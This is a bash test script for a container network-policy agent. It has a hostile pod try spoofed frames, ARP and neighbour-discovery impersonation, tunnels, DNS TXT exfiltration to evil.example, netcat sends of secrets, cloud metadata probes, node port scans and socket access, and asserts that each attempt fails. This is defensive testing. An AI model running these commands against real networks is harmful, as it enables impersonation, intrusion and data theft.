#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# A hostile root in a container with CAP_NET_ADMIN and CAP_NET_RAW: against the world, against the pod
# beside it, against the node. The far side sees nothing that the policy does not allow, the neighbour
# notices nothing, and nothing of the node is reached. Numbers are those of docs/attacks.md.
# shellcheck disable=SC2016 # what stands in single quotes runs inside

. "$(dirname "$0")/../lib/podman.sh"
podman_enter "$@"
cp "$POLICIES/podman/attack.yaml" "$NODE_POLICIES/"
check "the agent starts" agent_up
[ $tap_bad -eq 0 ] || tap_done # nothing else could be told

# An image without anything: the host's programs, read-only, are the arsenal.
podman_tools
check "the victim" box -d --name victim --label app=victim localhost/box httpd -f -vv -p 80 -h /www
check "the mole" tools -d --name mole --label app=mole localhost/tools sleep 100000
victim4=$(ip_of victim 4) victim6=$(ip_of victim 6) mole4=$(ip_of mole 4) mole6=$(ip_of mole 6)
IFS=. read -r -a octets <<<"$mole4"
mole_hex=$(printf '0x%02x%02x%02x%02x' "${octets[@]}")
victim_mac=$(podman inspect victim --format '{{range .NetworkSettings.Networks}}{{.MacAddress}}{{end}}')
gate_mac=$(ip -br link show cni0 | awk '{print $3}') # /sys is the host's

mole() {
	podman exec mole "$@" 2>&1
}

victim_ns() {
	nsenter -t "$(podman inspect victim --format '{{.State.Pid}}')" -n "$@"
}

# What the policy allows from here, and the noise of a link that comes up.
# (pcap reads "and" and "or" from the left, whatever stands between them.)
allowed="(src host $mole4 or src host $mole6) and ((tcp port 7777 and (dst host $ECHO4 or dst host $ECHO6)) or
	(tcp port 443 and (dst host $OPENAI4 or dst host $OPENAI6)))"
noise="arp or icmp6 or ip6 multicast or src host $OUTER4 or src host $OUTER6"

nothing_but_allowed() { # SNIFFER DESCRIPTION
	same "$2" "$(sniff_print "$1" "not ($allowed) and not ($noise)" | head -n 20)" ""
}

has "what is allowed works, IPv4" "$(mole /usr/bin/python3 /clients/hello.py tcp $ECHO4 7777)" hello
has "what is allowed works, IPv6" "$(mole /usr/bin/python3 /clients/hello.py tcp $ECHO6 7777)" hello
has "what is allowed works, by name" "$(mole curl -ksSm60 https://api.openai.com/v1/models)" test-model
check "the victim's own works" victim_ns curl -sSm60 -o /dev/null http://$EVIL4/
world_forget

# ---- frames (53, 54, 71, 72) ----
sniff_start frames
out=$(mole /usr/bin/python3 /clients/packets.py eth0 $OPENAI4 $OPENAI6 $EVIL4 $EVIL6)
sniff_stop frames
for class in udp-443 forged-source forged-mac fragments ip-options ext-headers protocols vlan stray-tcp \
	lengths destinations ethertypes neighbours; do
	has "$class: frames were sent" "$out" "^sent $class [1-9]"
done
nothing_but_allowed frames "nothing of them arrives"
same "no payload of one" "$(sniff_print frames -A | grep -c SECRET)" 0

# ---- the neighbour (52, impersonation) ----
victim_ns ip -o neigh show dev eth0 | sort >"$WORLD/tmp/neigh.before"
victim_ns ip -o addr show dev eth0 | grep -c inet6 >"$WORLD/tmp/addr.before"
victim_ns ip -6 route show | sort >"$WORLD/tmp/route.before"
fdb() { bridge fdb show br cni0 | grep -v permanent | awk '{print $1, $3}' | sort; }
fdb >"$WORLD/tmp/fdb.before"
sniff_start neighbour
victim_ns tcpdump -i eth0 -n -U --immediate-mode -Q in -w "$WORLD/pcap/victim.pcap" >"$WORLD/log/tcpdump.victim" 2>&1 &
echo $! >"$WORLD/pid/tcpdump.victim"
world_wait 60 grep -q 'listening on' "$WORLD/log/tcpdump.victim"
out=$(mole /usr/bin/python3 /clients/neighbour.py eth0 "$victim4" "$victim6" "$victim_mac" \
	$POD4.1 ${POD6}:1 "$gate_mac" $EVIL4 $EVIL6)
heard() { # a packet of the node's own, behind all others
	curl -sm 60 -o /dev/null "http://$victim4/heard"
	tcpdump -nA -r "$WORLD/pcap/victim.pcap" 2>/dev/null >"$WORLD/tmp/heard"
	grep -q /heard "$WORLD/tmp/heard"
}
check "(the victim's sniffer has seen all)" world_wait 60 heard
sniff_end victim
sniff_stop neighbour
for class in victims-address gateways-address victims-mac arp neighbour-discovery routers dhcp \
	to-the-victim bridge many-macs; do
	has "$class: frames were sent" "$out" "^sent $class [1-9]"
done
nothing_but_allowed neighbour "nothing leaves in the victim's name"
same "the victim hears only that somebody asks for it" \
	"$(sniff_print victim "not (arp[6:2] = 1 and arp[14:4] = $mole_hex) and
		not (icmp6[0] = 135 and src host $mole6) and not ether src $gate_mac" | head -n 20)" ""
mole_mac=$(mole cat /sys/class/net/eth0/address)
hasnt "no neighbour of the victim has the mole's MAC but the mole" \
	"$(victim_ns ip neigh show dev eth0 | grep -vE "^($mole4|$mole6|fe80)")" "$mole_mac"
same "no address was given to the victim" "$(victim_ns ip -o addr show dev eth0 | grep -c inet6)" "$(cat "$WORLD/tmp/addr.before")"
same "and no route" "$(victim_ns ip -6 route show | sort)" "$(cat "$WORLD/tmp/route.before")"
same "the bridge learned no address from the mole" "$(fdb)" "$(cat "$WORLD/tmp/fdb.before")"
check "the victim goes on" victim_ns curl -sSm60 -o /dev/null http://$EVIL4/
check "over IPv6 too" victim_ns curl -sSm60 -o /dev/null "http://[$EVIL6]/"
same "the victim serves the node" "$(curl -sSm60 "http://$victim4/ping" "http://[$victim6]/ping" | grep -c pong)" 2
hasnt "a pod without a rule for it does not reach it" "$(mole curl -sSm3 "http://$victim4/ping"; mole curl -sSm3 "http://[$victim6]/ping")" pong
world_forget

# ---- its own network (76, 87) ----
sniff_start rebuilt
out=$(mole bash -c "
	tc qdisc del dev eth0 clsact; tc qdisc add dev eth0 clsact; nft flush ruleset
	ip addr add $victim4/24 dev eth0; ip -6 addr add $victim6/64 dev eth0 nodad
	curl -sSm1 --interface $victim4 http://$EVIL4/; curl -sSm1 --interface $victim6 'http://[$EVIL6]/'
	ip addr del $victim4/24 dev eth0; ip -6 addr del $victim6/64 dev eth0
	ip addr add 198.51.100.2/32 dev eth0; curl -sSm1 --interface 198.51.100.2 http://$EVIL4/; ip addr del 198.51.100.2/32 dev eth0
	ip route add 203.0.113.66 via $victim4 dev eth0; curl -sSm1 http://$EVIL4/; ip route del 203.0.113.66
	ip route add 169.254.169.254 dev eth0; curl -sSm1 http://169.254.169.254/; ip route del 169.254.169.254
	for t in 'ipip remote $ECHO4 local $mole4' 'gre remote $ECHO4 local $mole4' 'sit remote $ECHO4 local $mole4' 'ip6tnl remote $ECHO6 local $mole6'; do
		ip link add tun9 type \$t && ip addr add 10.99.0.1/24 dev tun9 && ip link set tun9 up && ping -c1 -W1 10.99.0.2; ip link del tun9; done
	ip link add vx type vxlan id 7 remote $ECHO4 dstport 7777 dev eth0 && ip addr add 10.98.0.1/24 dev vx && ip link set vx up && ping -c1 -W1 10.98.0.2
	ip link add mv link eth0 type macvlan && ip link set mv up && ip addr add $POD4.99/24 dev mv && curl -sSm1 --interface mv http://$EVIL4/
	ip link add v0 type veth peer name v1; ip link add br0 type bridge; ip link set eth0 master br0; ip link set br0 up; ip link set eth0 nomaster
	for l in mv vx v0 br0; do ip link del \$l; done
	ip link set eth0 down; ip link set eth0 address $victim_mac; ip link set eth0 up; ip route replace default via $POD4.1 dev eth0
	ip -o link show eth0 | grep -q $victim_mac && curl -sSm1 http://$EVIL4/; ip link set eth0 down; ip link set eth0 address $mole_mac
	ip link set eth0 up; ip route replace default via $POD4.1 dev eth0
	ip -6 addr replace $mole6/64 dev eth0 nodad; ip -6 route replace default via ${POD6}:1 dev eth0
	echo REBUILT")
sniff_stop rebuilt
has "a root that rebuilds its network came to its end" "$out" REBUILT
hasnt "and reached nothing" "$out" '^evil|SECRET-CRED|bytes from'
nothing_but_allowed rebuilt "nor did anything arrive"
has "what is allowed works again" "$(mole /usr/bin/python3 /clients/hello.py tcp $ECHO4 7777)" hello

# ---- names, addresses, ports (16, 42-51, 55-59, 70, 71) ----
sniff_start names
out=$(mole bash -c "
	curl -ksSm2 --resolve api.openai.com:443:$EVIL4 https://api.openai.com/v1/models
	curl -ksSm2 --resolve evil.example:443:$OPENAI4 https://evil.example/
	curl -ksSm2 -H 'Host: evil.example' https://api.openai.com/v1/models
	curl -ksSm2 https://$OPENAI4/v1/models; curl -sSm2 http://$EVIL4/; curl -sSm2 'http://[$EVIL6]/'
	curl -sSm2 http://169.254.169.254/; curl -sSm2 'http://[fd00:ec2::254]/'; curl -sSm2 'http://[::ffff:169.254.169.254]/'
	curl -sSm2 http://2852039166/; curl -sSm2 'http://[64:ff9b::a9fe:a9fe]/'
	dig +time=10 +tries=1 @8.8.8.8 evil.example; dig +time=10 +tries=1 +tcp @8.8.8.8 evil.example
	dig +time=10 +tries=1 TXT leak.tunnel.evil.example; dig +time=10 +tries=1 @$RESOLVER4 TXT leak2.tunnel.evil.example
	dig +time=10 +tries=1 @$POD4.1 evil.example; dig +time=10 +tries=1 @2001:4860:4860::8888 evil.example
	for p in 22 25 80 853 8443 7778; do nc -zw1 $ECHO4 \$p && echo OPEN \$p; nc -zw1 $ECHO6 \$p && echo OPEN \$p; done
	echo SECRET | nc -u -w1 $ECHO4 7777; echo SECRET | nc -u -w1 $OPENAI4 443; ping -c1 -W1 $ECHO4; ping -c1 -W1 $ECHO6
	echo DONE")
sniff_stop names
has "names and addresses: came to its end" "$out" DONE
hasnt "and got nothing" "$out" '^(evil|stolen)|SECRET-CRED|OPEN|exfiltrated|bytes from|203\.0\.113\.66$'
nothing_but_allowed names "nor did anything arrive"
unseen "no server saw another name" 'evil|169\.254'
refuse "no zone of the mole's heard anything" asked 'leak.tunnel.evil.example'
refuse "nor by the resolver's own address" asked 'leak2.tunnel.evil.example'

# ---- the node (49, 75, 85) ----
out=$(mole bash -c "
	for a in $POD4.1 $OUTER4 '[${POD6}:1]' '[$OUTER6]' 127.0.0.1 '[::1]'; do
		for p in 22 53 80 443 2375 8080 9009 9478 10250; do
			curl -sm1 -o /tmp/got http://\$a:\$p/ && echo \"NODE \$a \$p\"; done; done
	find / -xdev -name '*.sock' 2>/dev/null; ls /sys/fs/bpf /run/exeat /run/netns 2>/dev/null
	for s in '@/run/exeat/agent.sock' '@exeat/agent' '@exeat/run/1'; do socat -T1 - \"ABSTRACT-CONNECT:\${s#@}\" </dev/null && echo CONTROL; done
	cat /proc/1/environ | tr '\\0' '\\n' | grep -i exeat; ls /proc | grep -c '^[0-9]'
	mount -t bpf none /mnt && echo MOUNTED; nsenter -t 1 -n true && unshare -n true && echo NETNS
	echo DONE")
has "the node: came to its end" "$out" DONE
hasnt "no service of the node is reached" "$out" NODE
for a in $POD4.1 "[${POD6}:1]"; do
	has "which answers others at $a" "$(curl -sm60 "http://$a:9009/" 2>&1)" HOST-SERVICE
done
hasnt "nor the agent, its maps, a namespace" "$out" 'CONTROL|agent\.sock$|^exeat|MOUNTED|NETNS'
out=$(mole /usr/bin/python3 -c '
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for cmd in (0, 5, 7, 11, 13, 19, 28):
    if libc.syscall(321, cmd, ctypes.create_string_buffer(128), 128) >= 0: print("BPF", cmd)
print("DONE")')
same "bpf() is refused" "$out" DONE

# ---- the socket itself, if a fool mounts it into a container (85) ----
out=$(tools --rm --label app=mole -v /run/exeat:/mnt:ro localhost/tools \
	/usr/bin/python3 -c '
import contextlib, socket
s = socket.socket(socket.AF_UNIX)
s.settimeout(20)
s.connect("/mnt/agent.sock")
with contextlib.suppress(BrokenPipeError):  # refused before it asked: the answer waits all the same
    s.sendall(b"{\"op\":\"status\"}\n")
print(s.makefile().readline())' 2>&1)
hasnt "the control socket answers nobody of another network namespace" "$out" '"ok":true'
has "though it is there" "$out" '"ok":false'
has "and answers the node" "$(agent_ask '{"op":"status"}')" '"ok":true'

# ---- using things up ----
mole bash -c "for i in \$(seq 300); do nc -w 5 $OPENAI4 443 >/dev/null 2>&1 </dev/zero & done; echo begun; sleep 4; kill \$(jobs -p)" >"$WORLD/tmp/flood" &
flood=$!
world_wait 60 grep -q begun "$WORLD/tmp/flood"
check "a flood of connections leaves the victim alone" victim_ns curl -sSm60 -o /dev/null http://$EVIL4/
wait $flood
has "and does not outlast itself" "$(mole curl -ksSm60 https://api.openai.com/v1/models)" test-model

# ---- without its interface ----
sniff_start gone
mole bash -c "ip link del eth0; ip link add eth0 type veth peer name e1; ip link set eth0 up; ip link set e1 up
	ip addr add $mole4/24 dev eth0; ip route add default via $POD4.1; curl -sSm2 http://$EVIL4/" >/dev/null
sniff_stop gone
nothing_but_allowed gone "a pod that deletes its interface is off the net"
check "and the victim goes on" victim_ns curl -sSm60 -o /dev/null http://$EVIL4/

tap_done
